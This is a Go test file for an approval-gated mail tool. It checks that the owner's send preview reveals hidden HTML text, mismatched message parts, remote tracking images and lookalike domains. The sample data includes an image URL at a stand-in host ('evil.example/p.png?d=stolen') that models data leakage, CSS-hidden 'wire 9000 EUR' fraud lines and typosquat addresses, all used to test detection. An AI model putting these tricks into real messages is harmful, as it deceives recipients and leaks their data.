package gmail_test

import (
	"strings"
	"testing"
	"time"

	"postern/internal/approval"
	"postern/internal/tool"
)

// sent sends a draft with the owner's yes, and returns what the owner was shown as one text.
func (d *desk) sent(id string) string {
	d.t.Helper()
	r, out := d.deciding(approval.Answer{Approved: true}, func() *tool.Outcome { return d.call("gmail_send", args{"draft_id": id}) })
	if out.Err != nil {
		d.t.Fatal(out.Text)
	}
	var b strings.Builder
	for _, f := range r.Preview.Fields {
		b.WriteString(f.Name + ": " + f.Value + "\n")
	}
	return b.String() + lines(r.Preview.Warnings) + "\n\n" + r.Preview.Body
}

func TestNamesWithCommasStayOneName(t *testing.T) {
	d := newDesk(t)
	id := idIn(t, d.must("gmail_save_draft", args{"to": []string{`"Löv, Ada" <k@example.org>`, "x@example.org"}, "subject": "One", "body_md": "Text"}), "draft_id")
	contains(t, d.sent(id), "To: Löv, Ada <k@example.org>\nTo: x@example.org\n")
	got := d.mail.AddMessage(ada, raw("From: =?utf-8?q?L=C3=B6v=2C_Ada?= <k@example.org>\nTo: ada@example.com\nSubject: s\nMessage-ID: <a@x>\n\nhi\n"))
	contains(t, d.must("gmail_save_draft", args{"reply_to_message_id": got, "body_md": "x"}), "To: Löv, Ada <k@example.org>\n")
}

func TestTheOwnerSeesWhatReadersSee(t *testing.T) {
	d := newDesk(t)
	id := d.mail.AddDraft(ada, raw("From: ada@example.com\nTo: k@example.org\nSubject: s\nMIME-Version: 1.0\nContent-Type: multipart/alternative; boundary=b\n\n"+
		"--b\nContent-Type: text/plain\n\nSee you at nine.\n--b\nContent-Type: text/html\n\n<p>Pay 9000 now.</p><p style=\"display:none\">secret words</p>\n--b--\n"))
	shown := d.sent(id)
	contains(t, shown, "Pay 9000 now.", "Plain-text version", "See you at nine.", "says something else than", "hidden from readers")
	alike := d.mail.AddDraft(ada, raw("From: ada@example.com\nTo: k@example.org\nSubject: s\nMIME-Version: 1.0\nContent-Type: multipart/alternative; boundary=b\n\n"+
		"--b\nContent-Type: text/plain\n\nSee *you* at nine.\n--b\nContent-Type: text/html\n\n<p>See <b>you</b> at nine.</p>\n--b--\n"))
	shown = d.sent(alike)
	contains(t, shown, "See you at nine.")
	lacks(t, shown, "Plain-text version", "hidden from readers")
}

// TestNothingThatReadersSeeIsMissing writes HTML whose text another language would take for marks of its own.
func TestNothingThatReadersSeeIsMissing(t *testing.T) {
	for _, body := range []string{
		"<p>Thanks, see you soon.</p><p>[Please wire 9000 EUR<br>today]: ok</p>",
		"<p>Thanks, see you soon.</p><blockquote>~~~ Please wire 9000 EUR</blockquote>",
		"<p>Thanks, see you soon.</p><pre>``` Please wire 9000 EUR</pre>",
		"<p>Thanks, see you soon.</p>" + strings.Repeat("[", 5001) + "<p>[Please wire 9000 EUR]: http://a.example</p>",
		"<p>Thanks, see you soon.</p>&lt;!-- Please wire 9000 EUR --&gt;",
	} {
		d := newDesk(t)
		mail := args{"to": []string{"k@example.org"}, "subject": "s", "body_html": body}
		r, out := d.deciding(approval.Answer{Approved: true}, func() *tool.Outcome { return d.call("gmail_send", mail) })
		if out.Err != nil {
			t.Fatal(out.Text)
		}
		contains(t, r.Preview.Body, "see you soon.", "Please wire 9000 EUR")
		id := d.mail.AddDraft(ada, raw("From: ada@example.com\nTo: k@example.org\nSubject: s\nContent-Type: text/html\n\n%s\n", body))
		contains(t, d.sent(id), "see you soon.", "Please wire 9000 EUR")
	}
}

func TestPicturesFromElsewhereAreTold(t *testing.T) {
	const loads = "it loads a picture from https://evil.example/p.png?d=stolen"
	for _, body := range []args{
		{"body_html": `<p>Hello</p><img src="https://evil.example/p.png?d=stolen">`},
		{"body_md": "Hello ![cat](https://evil.example/p.png?d=stolen)"},
	} {
		d := newDesk(t)
		body["to"], body["subject"] = []string{"k@example.org"}, "s"
		id := idIn(t, d.must("gmail_save_draft", body), "draft_id")
		contains(t, d.sent(id), loads)
		r, out := d.deciding(approval.Answer{Approved: true}, func() *tool.Outcome { return d.call("gmail_send", body) })
		if out.Err != nil {
			t.Fatal(out.Text)
		}
		contains(t, lines(r.Preview.Warnings), loads)
	}
}

func TestAReplyGoesOutUnderTheOwnersAddress(t *testing.T) {
	d := newDesk(t)
	id := d.mail.AddMessage(ada, raw("From: g@example.org\nTo: ada+shop@example.com\nSubject: s\nMessage-ID: <m1@x>\n\nhi\n"))
	contains(t, d.must("gmail_save_draft", args{"reply_to_message_id": id, "body_md": "x"}), "From: ada@example.com\n", "To: g@example.org\n")
}

func TestAFieldOfCommasIsReadQuickly(t *testing.T) {
	d := newDesk(t)
	id := d.mail.AddMessage(ada, raw("From: g@example.org\nTo: <%s\nSubject: s\nMessage-ID: <m1@x>\n\nhi\n", strings.Repeat("a,", 100_000)))
	began := time.Now()
	d.must("gmail_save_draft", args{"reply_to_message_id": id, "reply_all": true, "body_md": "x"})
	if took := time.Since(began); took > 5*time.Second { // it took 7 s and more, and grows with the square
		t.Errorf("it took %v", took)
	}
}

func TestHiddenTextIsNotWritten(t *testing.T) {
	d := newDesk(t)
	d.must("gmail_save_draft", args{"to": []string{"k@example.org"}, "subject": "s", "body_html": `<p>Seen</p><p style="font-size:0">zero</p><p style="display:none">none</p><p style="color:#fff;background-color:#fff">white</p><p hidden>attribute</p>`})
	got := string(newest(t, d.mail.Messages(ada)).Raw)
	contains(t, got, "Seen")
	lacks(t, got, "zero", "none", "white", "attribute")
}

// RFC 2046 section 5.2.1 allows no base64 for message/rfc822; as other data, a mail keeps every byte.
func TestAnAttachedMailKeepsItsBytes(t *testing.T) {
	d := newDesk(t)
	id := d.mail.AddDraft(ada, raw("From: ada@example.com\nTo: k@example.org\nSubject: s\nMIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=b\n\n--b\nContent-Type: text/plain\n\nText\n"+
		"--b\nContent-Type: message/rfc822\nContent-Disposition: attachment; filename=a.eml\n\nFrom: z@example.org\nSubject: inner\nContent-Type: text/plain; charset=utf-8\nContent-Transfer-Encoding: 8bit\n\nGrüße inside\n--b--\n"))
	contains(t, d.must("gmail_save_draft", args{"draft_id": id, "subject": "Two"}), "Attachment: a.eml")
	got := string(newest(t, d.mail.Messages(ada)).Raw)
	lacks(t, got, "message/rfc822")
	var inner string
	for _, a := range parse(t, []byte(got)).Attachments {
		inner += string(a.Content)
	}
	contains(t, inner, "Subject: inner", "Grüße inside")
}

func TestAReplyThatIsChangedQuotesOnce(t *testing.T) {
	d := newDesk(t)
	id := d.mail.AddMessage(ada, note("g@example.org", ada, "Boat", "m1@x", "Come at nine."))
	draft := idIn(t, d.must("gmail_save_draft", args{"reply_to_message_id": id, "body_md": "I will."}), "draft_id")
	text := d.must("gmail_save_draft", args{"draft_id": draft, "reply_to_message_id": id, "cc": []string{"c@example.org"}})
	contains(t, text, "Cc: c@example.org", "I will.")
	if n := strings.Count(text, "Come at nine."); n != 1 {
		t.Errorf("the quotation stands %d times in:\n%s", n, text)
	}
}

func TestAPictureInTheTextStaysThere(t *testing.T) {
	d := newDesk(t)
	id := d.mail.AddDraft(ada, raw("From: ada@example.com\nTo: k@example.org\nSubject: s\nMIME-Version: 1.0\nContent-Type: multipart/related; boundary=b\n\n--b\nContent-Type: text/html\n\n<p>Look: <img src=\"cid:pic1\" alt=\"boat\"></p>\n"+
		"--b\nContent-Type: image/png; name=boat.png\nContent-ID: <pic1>\nContent-Disposition: inline; filename=boat.png\nContent-Transfer-Encoding: base64\n\niVBORw0KGgo=\n--b--\n"))
	d.must("gmail_save_draft", args{"draft_id": id, "subject": "Two"})
	env := parse(t, newest(t, d.mail.Messages(ada)).Raw)
	contains(t, env.HTML, "cid:pic1")
	if len(env.Inlines)+len(env.OtherParts) != 1 || len(env.Attachments) != 0 {
		t.Errorf("%d inline, %d other parts, %d attachments", len(env.Inlines), len(env.OtherParts), len(env.Attachments))
	}
}

func TestADraftWithUnreadableRecipientsIsNotSent(t *testing.T) {
	d := newDesk(t)
	id := d.mail.AddDraft(ada, raw("From: ada@example.com\nTo: k@example.org <z@example.org\nSubject: s\n\nx\n"))
	d.refused("gmail_send", args{"draft_id": id}, "cannot be read as addresses", "gmail_save_draft")
	text := d.must("gmail_save_draft", args{"draft_id": id, "to": []string{"k@example.org"}})
	contains(t, text, "To: k@example.org\n")
}

func TestLookalikes(t *testing.T) {
	d := newDesk(t)
	for to, want := range map[string]string{
		"k@exarnple.com": "looks like your own domain", "k@examplle.com": "looks like your own domain", "k@gmai1.com": "looks like gmail.com",
		"k@xn--exmple-4nf.com": "mixes alphabets", "k@hotmali.com": "looks like hotmail.com",
	} {
		id := idIn(t, d.must("gmail_save_draft", args{"to": []string{to}, "subject": "s", "body_md": "x"}), "draft_id")
		contains(t, d.sent(id), want)
	}
	id := idIn(t, d.must("gmail_save_draft", args{"to": []string{"k@gmail.com", "l@mail.example.net"}, "subject": "s", "body_md": "x"}), "draft_id")
	lacks(t, d.sent(id), "looks like", "mixes")
}

func TestNoLabelIsMadeForACallThatFails(t *testing.T) {
	d := newDesk(t)
	id := d.mail.AddMessage(ada, note("g@example.org", ada, "x", "", "x"))
	for _, bad := range []args{
		{"message_ids": []string{id}, "action": "label", "add": []string{"New"}, "remove": []string{"Nope"}},
		{"message_ids": []string{id}, "action": "label", "add": []string{"New", "SENT"}},
		{"message_ids": []string{id}, "action": "label", "add": []string{"New", "a//b"}},
		{"message_ids": []string{id}, "action": "label", "add": []string{"New", "STARRED"}, "remove": []string{"starred"}},
	} {
		d.refused("gmail_modify", bad)
	}
	lacks(t, d.must("gmail_list_labels", nil), "New")
}
